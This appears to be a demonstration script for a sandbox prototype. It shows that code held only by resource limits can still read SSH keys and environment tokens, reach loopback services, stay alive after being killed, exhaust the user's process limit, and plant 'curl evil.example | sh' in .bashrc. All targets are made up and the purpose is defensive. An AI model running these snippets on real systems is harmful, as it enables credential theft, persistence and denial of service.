"""Shows what a child held only by resource limits could still do. Everything it takes or breaks is made up for the purpose,
bounded, and gone afterwards.

    python3 demo.py          as an ordinary user: the limit on processes means nothing to root

The demo starts itself once more as the bridge (`demo.py bridge`), in a made-up home and with a made-up token in its
environment, so that nothing of the real user is shown.
"""

from __future__ import annotations

import http.server
import os
import signal
import subprocess
import sys
import tempfile
import textwrap
import threading
from pathlib import Path

from prototype import Limits, run

READ_HOME = """
print(open("/etc/passwd").readline().strip())
print(open("@HOME@/.ssh/id_ed25519").read().strip())
"""

READ_ENVIRONMENT = """
import os
environment = open(f"/proc/{os.getppid()}/environ").read().split(chr(0))
print([variable for variable in environment if "TOKEN" in variable])
"""

USE_LOOPBACK = """
import urllib.request
print(urllib.request.urlopen("http://127.0.0.1:@PORT@/").read().decode())
"""

WRITE_HOME = """
with open("@HOME@/.bashrc", "a") as file:
    file.write("curl evil.example | sh\\n")
print("written")
"""

STAY = """
import os, signal
if os.fork() == 0:
    os.setsid()  # out of the group that is killed
    with open("@HOME@/pid.new", "w") as file:
        file.write(str(os.getpid()))
    os.rename("@HOME@/pid.new", "@HOME@/pid")
    signal.alarm(60)  # the demo's own bound
    for descriptor in range(3):
        os.close(descriptor)
    signal.pause()
while not os.path.exists("@HOME@/pid"):
    pass
"""

SHARE_OUT_MEMORY = """
import os
reader, writer = os.pipe()
for _ in range(4):
    if os.fork() == 0:
        block = bytearray(150 << 20)
        block[::4096] = b"x" * len(block[::4096])
        os.write(writer, b"%d " % (len(block) >> 20))
        os._exit(0)
taken = b""
while taken.count(b" ") < 4:
    taken += os.read(reader, 100)
print("MB held at once, with a limit of 256:", taken.decode())
"""

TAKE_ALL_PROCESSES = """
import os, time
count = 0
try:
    while count < 200:
        if os.fork() == 0:
            time.sleep(60)
            os._exit(0)
        count += 1
except OSError as error:
    print("forks until the limit:", count, "-", error.strerror, flush=True)
    open("@HOME@/full", "w").close()
time.sleep(60)
"""

NEIGHBOUR = """
import os, time
deadline = time.monotonic() + 5
while not os.path.exists("@HOME@/full") and time.monotonic() < deadline:
    time.sleep(0.01)
try:
    if os.fork() == 0:
        os._exit(0)
    print("another run forked")
except OSError as error:
    print("another run, which has forked nothing, can't fork once:", error.strerror)
"""


class Panel(http.server.BaseHTTPRequestHandler):
    """A service that trusts anyone who reaches it on loopback."""

    def do_GET(self) -> None:
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"the database's admin page")

    def log_message(self, format: str, *args: object) -> None:
        pass


def shown(title: str, text: str) -> None:
    print(f"\ncode that {title}\n" + textwrap.indent(text.strip() or "(nothing)", "  "), flush=True)


def processes_of_user() -> int:
    """How many processes and threads count against RLIMIT_NPROC now."""
    count = 0
    for task in Path("/proc").glob("[0-9]*/task/[0-9]*"):
        try:
            count += task.stat().st_uid == os.getuid()
        except OSError:
            pass
    return count


def bridge(home: Path) -> None:
    """The prototype's bridge, asked to run one hostile piece of code after the other."""
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Panel)
    threading.Thread(target=server.serve_forever, daemon=True).start()

    def filled(code: str) -> str:
        return code.replace("@HOME@", str(home)).replace("@PORT@", str(server.server_port))

    limits = Limits(processes=processes_of_user() + 40)
    shown("reads the user's files", run(filled(READ_HOME), limits).output)
    shown("reads the bridge's environment", run(filled(READ_ENVIRONMENT), limits).output)
    shown("calls a service on loopback", run(filled(USE_LOOPBACK), limits).output)
    run(filled(WRITE_HOME), limits)
    shown("writes into the home directory", "~/.bashrc: " + (home / ".bashrc").read_text())
    shown("shares a memory limit out to children", run(filled(SHARE_OUT_MEMORY), limits).output)

    result = run(filled(STAY), limits)
    pid = int((home / "pid").read_text())
    state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    shown("stays when it is told to go", f"the run ended with {result.status}; its process {pid} is still there, state {state}")
    os.kill(pid, signal.SIGKILL)

    forks: list[str] = []
    hog = threading.Thread(target=lambda: forks.append(run(filled(TAKE_ALL_PROCESSES), Limits(processes=limits.processes, timeout=3)).output))
    hog.start()
    other = run(filled(NEIGHBOUR), Limits(processes=limits.processes, timeout=6)).output
    hog.join()
    shown("takes all the processes its user may have", forks[0] + other)


def main() -> None:
    if os.getuid() == 0:
        sys.exit("demo: run this as an ordinary user, such as with scripts/as-user")
    with tempfile.TemporaryDirectory(prefix="rlimit-demo-") as name:
        home = Path(name)
        (home / ".ssh").mkdir()
        (home / ".ssh" / "id_ed25519").write_text("made-up private key\n")
        (home / ".bashrc").write_text("")
        environment = {**os.environ, "HOME": name, "ACME_TOKEN": "made-up-for-this-demo"}
        subprocess.run([sys.executable, "-B", __file__, "bridge"], env=environment, check=True, timeout=120)


if __name__ == "__main__":
    if sys.argv[1:] == ["bridge"]:
        bridge(Path(os.environ["HOME"]))
    else:
        main()
